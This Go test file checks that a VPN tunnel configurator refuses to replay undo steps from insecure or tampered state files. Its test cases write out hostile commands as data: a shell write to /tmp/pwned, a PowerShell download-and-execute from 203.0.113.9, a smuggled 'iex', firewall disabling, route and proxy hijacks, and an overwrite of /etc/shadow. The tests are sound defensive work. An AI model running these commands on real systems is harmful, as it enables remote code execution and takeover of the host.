package tun

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"testing"
)

// writeState writes st as a state file at path (mode 0600).
func writeState(t *testing.T, path string, steps ...step) {
	t.Helper()
	data, err := json.Marshal(state{Version: stateVersion, OS: runtime.GOOS, Dev: "twtest0", Undo: steps})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
}

// TestCleanupRefusesInsecureStateFile: a state file, or its directory,
// that another user owns or that group/others can write is refused
// before anything in it runs, by Cleanup and by Apply (which writes
// there); the same file, made private again, is replayed.
func TestCleanupRefusesInsecureStateFile(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("no mode bits on Windows")
	}
	ctx := context.Background()
	cases := []struct {
		name  string
		setup func(t *testing.T, c *configurator, dir, file string)
	}{
		{"group-writable directory", func(t *testing.T, _ *configurator, dir, _ string) { chmod(t, dir, 0o770) }},
		{"world-writable directory", func(t *testing.T, _ *configurator, dir, _ string) { chmod(t, dir, 0o777|os.ModeSticky) }},
		{"group-writable file", func(t *testing.T, _ *configurator, _, file string) { chmod(t, file, 0o620) }},
		{"world-writable file", func(t *testing.T, _ *configurator, _, file string) { chmod(t, file, 0o602) }},
		// The owner check compares with the effective uid; playing
		// another uid needs no root.
		{"another user's files", func(_ *testing.T, c *configurator, _, _ string) { c.euid = os.Geteuid() + 1 }},
		{"symlink", func(t *testing.T, _ *configurator, dir, file string) {
			if err := os.Rename(file, filepath.Join(dir, "elsewhere.json")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("elsewhere.json", file); err != nil {
				t.Fatal(err)
			}
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "state")
			file := filepath.Join(dir, "tun-twtest0.json")
			writeState(t, file, step{Kind: "fake", Dev: "1"})
			p := &fakePlatform{n: 1}
			c := newTestConfigurator(t, file, p)
			tc.setup(t, c, dir, file)
			if err := c.Cleanup(ctx); !errors.Is(err, ErrInsecureState) {
				t.Fatalf("Cleanup = %v, want ErrInsecureState", err)
			}
			if _, err := c.Apply(ctx, testDev(), validConfig()); !errors.Is(err, ErrInsecureState) {
				t.Fatalf("Apply = %v, want ErrInsecureState", err)
			}
			if got := p.take(); len(got) != 0 {
				t.Fatalf("ran %v from an insecure state file", got)
			}
		})
	}

	// The control case: private directory and file are replayed.
	dir := filepath.Join(t.TempDir(), "state")
	file := filepath.Join(dir, "tun-twtest0.json")
	writeState(t, file, step{Kind: "fake", Dev: "1"})
	chmod(t, dir, 0o750) // systemd's StateDirectoryMode: group may read
	p := &fakePlatform{}
	if err := newTestConfigurator(t, file, p).Cleanup(ctx); err != nil {
		t.Fatal(err)
	}
	if got := p.take(); len(got) != 1 || got[0] != "undo 1" {
		t.Fatalf("private state file: ran %v, want [undo 1]", got)
	}
}

func chmod(t *testing.T, path string, mode os.FileMode) {
	t.Helper()
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
}

// TestCleanupRefusesForeignSteps: a state file that would run a program or
// arguments twoway never records, or restore another file than the
// configured resolv.conf, is refused as a whole: nothing in it runs.
func TestCleanupRefusesForeignSteps(t *testing.T) {
	ctx := context.Background()
	exec := func(name string, stdin string, args ...string) step {
		return step{Kind: stepExec, Cmd: &Command{Name: name, Args: args, Stdin: stdin}}
	}
	legit := exec("resolvectl", "", "revert", "twtest0")
	cases := map[string]step{
		"shell":                  exec("sh", "", "-c", "id > /tmp/pwned"),
		"path to a known name":   exec("/tmp/resolvectl", "", "revert", "twtest0"),
		"resolvectl other verb":  exec("resolvectl", "", "dns", "eth0", "203.0.113.53"),
		"route add":              exec("route", "", "-n", "add", "-inet", "0.0.0.0/0", "203.0.113.1"),
		"ifconfig down":          exec("ifconfig", "", "en0", "down"),
		"scutil other script":    exec("scutil", "set State:/Network/Global/DNS\nquit\n"),
		"powershell other":       exec("powershell.exe", "", "-NoProfile", "-NonInteractive", "-Command", "Invoke-WebRequest http://203.0.113.9/x | iex"),
		"powershell smuggled":    exec("powershell.exe", "", "-NoProfile", "-NonInteractive", "-Command", "Get-DnsClientNrptRule | Where-Object { $_.Comment -eq 'twoway x' } | Remove-DnsClientNrptRule -Force; iex x"),
		"netsh firewall":         exec("netsh", "", "advfirewall", "set", "allprofiles", "state", "off"),
		"netsh add route":        exec("netsh", "", "interface", "ipv4", "add", "route", "prefix=0.0.0.0/0"),
		"networksetup other":     exec("networksetup", "", "-setwebproxy", "Wi-Fi", "203.0.113.9", "80"),
		"resolv.conf elsewhere":  {Kind: stepResolvConf, ResolvConf: &resolvConfBackup{Path: "/etc/shadow", Backup: "/tmp/x"}},
		"resolv.conf backup far": {Kind: stepResolvConf, ResolvConf: &resolvConfBackup{Path: "/etc/resolv.conf", Backup: "/tmp/x"}},
	}
	for name, bad := range cases {
		file := filepath.Join(t.TempDir(), "tun.json")
		writeState(t, file, legit, bad)
		rec := &recorder{}
		c := newTestConfigurator(t, file, &fakePlatform{})
		c.opts.Run = rec.run
		if err := c.Cleanup(ctx); !errors.Is(err, ErrForeignStep) {
			t.Errorf("%s: Cleanup = %v, want ErrForeignStep", name, err)
		}
		if got := rec.take(); len(got) != 0 {
			t.Errorf("%s: ran %v", name, got)
		}
		if _, err := os.Stat(file); err != nil {
			t.Errorf("%s: refused state file is gone: %v", name, err)
		}
	}
}

// TestRecordedUndoStepsAreAllowed: every undo the planners record passes
// the replay check, so a real crash is still cleaned up.
func TestRecordedUndoStepsAreAllowed(t *testing.T) {
	ctx := context.Background()
	var undos []*Command
	collect := func(cmds []plannedCommand, err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range cmds {
			if c.Undo != nil {
				undos = append(undos, c.Undo)
			}
		}
	}
	winDNS := fullConfig()
	winDNS.DNS = addrs("198.18.0.53", "2001:db8::53")
	for _, cfg := range []Config{fullConfig(), validConfig(), winDNS} {
		collect(macOSPlan(ctx, (&recorder{outputs: macOutputs}).run, "utun9", cfg))
		collect(windowsPlan(ctx, (&recorder{outputs: netshOutputs}).run, "twoway", cfg))
		collect(resolvedPlan("twtest0", cfg), nil)
	}
	seen := map[string]bool{}
	var steps []step
	for _, u := range undos {
		seen[u.Name] = true
		steps = append(steps, step{Kind: stepExec, Cmd: u})
	}
	steps = append(steps, step{Kind: stepResolvConf, ResolvConf: &resolvConfBackup{Path: "/etc/resolv.conf", Backup: "/etc/resolv.conf" + backupSuffix}},
		step{Kind: stepResolvConf, ResolvConf: &resolvConfBackup{Path: "/etc/resolv.conf"}})
	if err := checkSteps(&state{Undo: steps}, "/etc/resolv.conf"); err != nil {
		t.Fatal(err)
	}
	for name := range undoCommands {
		if !seen[name] {
			t.Errorf("no planner records an undo with %s, yet it is allowed", name)
		}
	}
}
